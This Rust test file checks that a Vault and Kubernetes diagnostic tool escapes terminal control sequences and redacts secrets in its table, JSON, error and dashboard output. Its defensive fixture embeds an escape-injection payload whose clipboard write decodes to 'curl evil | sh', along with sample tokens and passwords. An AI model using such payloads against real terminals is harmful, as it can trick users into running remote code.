//! Text others control, as an attacker would write it, through every output:
//! `check -o table`, `-o json`, stderr and the dashboard. Anyone who may
//! create a pod writes its annotations (the real kube-apiserver accepts ESC
//! in them), the agent writes its log, controllers write events, and a proxy
//! in front of Vault writes its answers. The class is CVE-2021-25743, which
//! kubectl fixed by escaping control characters (kubernetes PR #112553).

use std::path::{Path, PathBuf};
use std::process::Command;

use ratatui::Terminal;
use ratatui::backend::TestBackend;
use serde_yaml_ng::Value;
use vaultscope::app::{App, SourceKind};
use vaultscope::safe::is_unsafe;
use vaultscope::sources::bundle;
use vaultscope::theme::Theme;

/// OSC 0 (title), OSC 52 (clipboard write), clear screen, a cursor move,
/// C1 CSI (U+009B) and a right-to-left override.
const ATTACK: &str =
    "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[1;1H\u{9b}31m\u{202e}txt.exe";

/// Secrets as they turn up in real logs and messages.
const TOKEN: &str = "hvs.CAESIJlU9J7Pi6kX2lkqpDtVtD7SpVuhmvUjnDzA3kgrqcHnGh4KHGh2cy5W";
const LEGACY_TOKEN: &str = "s.Xd3Q7tFMBfOiVr2HBphEIGsN";
const JWT: &str =
    "eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1fWiJ9.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50In0.Zm9vYmFy";
const SECRETS: [&str; 6] = [
    "CAESIJlU9J7Pi6kX2lkqpDtVtD7S",
    "Xd3Q7tFMBfOiVr2HBphEIGsN",
    "eyJhbGciOiJSUzI1NiIsImtpZCI6",
    "hunter2",
    "Pa55w0rd",
    "r0b0tpw",
];

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let dest = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &dest);
        } else {
            std::fs::copy(e.path(), dest).unwrap();
        }
    }
}

fn edit_yaml(path: &Path, edit: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_yaml_ng::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    edit(&mut v);
    std::fs::write(path, serde_yaml_ng::to_string(&v).unwrap()).unwrap();
}

fn items(v: &mut Value) -> &mut Vec<Value> {
    v["items"].as_sequence_mut().unwrap()
}

fn named<'a>(v: &'a mut Value, prefix: &str) -> &'a mut Value {
    items(v)
        .iter_mut()
        .find(|i| {
            i["metadata"]["name"]
                .as_str()
                .is_some_and(|n| n.starts_with(prefix))
        })
        .unwrap_or_else(|| panic!("no item named {prefix}*"))
}

fn set(v: &mut Value, key: &str, value: String) {
    v.as_mapping_mut()
        .unwrap()
        .insert(Value::String(key.into()), Value::String(value));
}

/// examples/broken-auth with hostile text in every field that reaches output.
fn hostile_bundle() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("bundle");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/broken-auth"),
        &dir,
    );
    edit_yaml(&dir.join("pods.yaml"), |pods| {
        let ledger = named(pods, "ledger-");
        let ann = &mut ledger["metadata"]["annotations"];
        // Echoed in the fix, and in evidence.
        set(ann, "vault.hashicorp.com/role", format!("ledger{ATTACK}"));
        set(
            ann,
            "vault.hashicorp.com/agent-inject-perms-db",
            format!("9{ATTACK}"),
        );
        // A token pasted where a boolean belongs, and a template with a password.
        set(ann, "vault.hashicorp.com/agent-inject-token", TOKEN.into());
        set(
            ann,
            "vault.hashicorp.com/agent-inject-template-db",
            format!("postgresql://app:hunter2@db/app{ATTACK}"),
        );
        set(
            ann,
            "vault.hashicorp.com/agent-inject-secret-tpyo",
            format!("secret/data/x{ATTACK}"),
        );
        // A pod whose name and namespace are hostile (a bundle is any file).
        let mut evil = ledger.clone();
        set(&mut evil["metadata"], "name", format!("evil{ATTACK}"));
        set(&mut evil["metadata"], "namespace", format!("ns{ATTACK}"));
        evil["metadata"]
            .as_mapping_mut()
            .unwrap()
            .remove("ownerReferences");
        let statuses = evil["status"]["initContainerStatuses"]
            .as_sequence_mut()
            .unwrap();
        let waiting = &mut statuses[0]["state"];
        let mut inner = Value::Mapping(Default::default());
        set(&mut inner, "reason", "ErrImagePull".into());
        set(
            &mut inner,
            "message",
            format!(
                "failed to pull image \"registry.example/vault:1.15\": Get \"https://robot:r0b0tpw@registry.example/v2/\": unauthorized {ATTACK}"
            ),
        );
        let mut state = Value::Mapping(Default::default());
        state
            .as_mapping_mut()
            .unwrap()
            .insert(Value::String("waiting".into()), inner);
        *waiting = state;
        items(pods).push(evil);
    });
    edit_yaml(&dir.join("events.yaml"), |events| {
        for e in items(events) {
            if e["reason"].as_str() == Some("FailedCreate") {
                let msg = format!(
                    "{} Authorization: Bearer {JWT} --password=Pa55w0rd {ATTACK}",
                    e["message"].as_str().unwrap()
                );
                set(e, "message", msg);
            }
        }
    });
    let log = dir.join("logs/payments/ledger-wftlmv7tlk-7ldvj/vault-agent-init.log");
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str(&format!(
        "2026-11-28T14:17:29.000Z [ERROR] agent.auth.handler: error authenticating: error=\"Error making API request.\\n\\nURL: PUT https://admin:hunter2@vault.vault.svc:8200/v1/auth/kubernetes/login\\nX-Vault-Token: {TOKEN}\\nCode: 403. Errors:\\n\\n* service account name not authorized {LEGACY_TOKEN} {ATTACK}\" backoff=4m1s\n"
    ));
    std::fs::write(&log, text).unwrap();
    let vault = dir.join("vault.json");
    let mut v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&vault).unwrap()).unwrap();
    v["health"]["version"] = format!("1.15.2{ATTACK}").into();
    v["address"] = format!("https://vault:{TOKEN}@vault.vault.svc:8200{ATTACK}").into();
    // A lease id from Vault lands in the Leases view's NAME column.
    v["leases"][0]["id"] = format!("database/creds/billing/{ATTACK}").into();
    std::fs::write(&vault, v.to_string()).unwrap();
    (tmp, dir)
}

fn run(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_vaultscope"))
        .args(args)
        .output()
        .expect("run vaultscope");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// No raw control character but the layout's own newlines, and no secret.
fn assert_safe(what: &str, text: &str) {
    if let Some((i, c)) = text
        .char_indices()
        .find(|(_, c)| *c != '\n' && is_unsafe(*c))
    {
        let from = text[..i].char_indices().rev().nth(60).map_or(0, |(j, _)| j);
        panic!("{what}: raw U+{:04X} after {:?}", c as u32, &text[from..i]);
    }
    for s in SECRETS {
        assert!(!text.contains(s), "{what}: secret {s:?} shown:\n{text}");
    }
}

#[test]
fn table_output_is_safe_and_redacted() {
    let (_tmp, dir) = hostile_bundle();
    let (code, out, err) = run(&["check", "--from", dir.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert_safe("stdout", &out);
    assert_safe("stderr", &err);
    // The attack is shown, not obeyed, and what a diagnosis needs is kept.
    for visible in [
        "\\x1b]0;pwned\\x07",
        "\\x9b31m",
        "\\u{202e}",
        "auth.service_account_not_authorized",
        "auth/kubernetes/login",
        "injection.bad_annotation",
        "\\nX-Vault-Token: <redacted>\\nCode: 403",
        "https://<redacted>@vault.vault.svc:8200",
        "characters, not shown: this annotation can hold secrets",
    ] {
        assert!(out.contains(visible), "{visible:?} missing:\n{out}");
    }
}

#[test]
fn json_output_escapes_controls_and_redacts() {
    let (_tmp, dir) = hostile_bundle();
    let (code, out, err) = run(&["check", "--from", dir.to_str().unwrap(), "-o", "json"]);
    assert_eq!(code, 1, "{err}");
    assert_safe("json", &out);
    assert!(out.contains("\\u001b]0;pwned\\u0007"), "{out}");
    assert!(
        out.contains("\\u009b31m") && out.contains("\\u202e"),
        "{out}"
    );
    let v: serde_json::Value = serde_json::from_str(&out).expect("JSON parses");
    // Decoded, the data is what the pod said (escaped only in transit).
    let names: Vec<&str> = v["workloads"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|w| w["name"].as_str())
        .collect();
    assert!(names.iter().any(|n| n.contains("\u{202e}")), "{names:?}");
}

#[test]
fn errors_that_name_an_item_are_safe() {
    let (_tmp, dir) = hostile_bundle();
    edit_yaml(&dir.join("pods.yaml"), |pods| {
        let evil = named(pods, "evil");
        set(
            &mut evil["status"],
            "startTime",
            format!("not a time{ATTACK}"),
        );
    });
    let (code, out, err) = run(&["check", "--from", dir.to_str().unwrap()]);
    assert_eq!(code, 2, "{out}{err}");
    assert_safe("stderr", &err);
    assert!(err.contains("evil\\x1b]0;pwned"), "{err}");
}

#[test]
fn dashboard_shows_escapes_not_controls() {
    let (_tmp, dir) = hostile_bundle();
    let b = bundle::load(&dir).unwrap();
    let at = b.captured_at.unwrap();
    let mut app = App::new(
        SourceKind::Bundle {
            dir: dir.display().to_string(),
        },
        Theme::builtin("default").unwrap(),
        at,
    );
    for o in b.observations {
        app.apply(o);
    }
    app.refresh(at);
    let mut screens = Vec::new();
    let mut term = Terminal::new(TestBackend::new(220, 70)).unwrap();
    // The list, then each workload's pane.
    for i in 0..app.report.workloads.len() + 1 {
        if i > 0 {
            app.on_key(crossterm::event::KeyEvent::from(
                crossterm::event::KeyCode::Esc,
            ));
            app.ui.selected = Some(app.report.workloads[i - 1].key.clone());
            app.on_key(crossterm::event::KeyEvent::from(
                crossterm::event::KeyCode::Enter,
            ));
        }
        term.draw(|f| vaultscope::dashboard::draw(f, &mut app))
            .unwrap();
        let buf = term.backend().buffer();
        let text: String = (0..buf.area.height)
            .map(|y| {
                (0..buf.area.width)
                    .map(|x| buf[(x, y)].symbol())
                    .collect::<String>()
                    + "\n"
            })
            .collect();
        assert_safe(&format!("screen {i}"), &text);
        screens.push(text);
    }
    // The Leases view lists every lease, certificate and KV path Vault named.
    app.on_key(crossterm::event::KeyEvent::from(
        crossterm::event::KeyCode::Esc,
    ));
    app.on_key(crossterm::event::KeyEvent::from(
        crossterm::event::KeyCode::Char('L'),
    ));
    assert!(app.ui.leases.is_some());
    term.draw(|f| vaultscope::dashboard::draw(f, &mut app))
        .unwrap();
    let buf = term.backend().buffer();
    let text: String = (0..buf.area.height)
        .map(|y| {
            (0..buf.area.width)
                .map(|x| buf[(x, y)].symbol())
                .collect::<String>()
                + "\n"
        })
        .collect();
    assert_safe("leases view", &text);
    assert!(
        text.contains("database/creds/billing/"),
        "the hostile lease is on screen:\n{text}"
    );
    screens.push(text);
    let all = screens.concat();
    assert!(all.contains("\\x1b]0;pwned"), "{all}");
    assert!(all.contains("\\u{202e}"), "{all}");
}
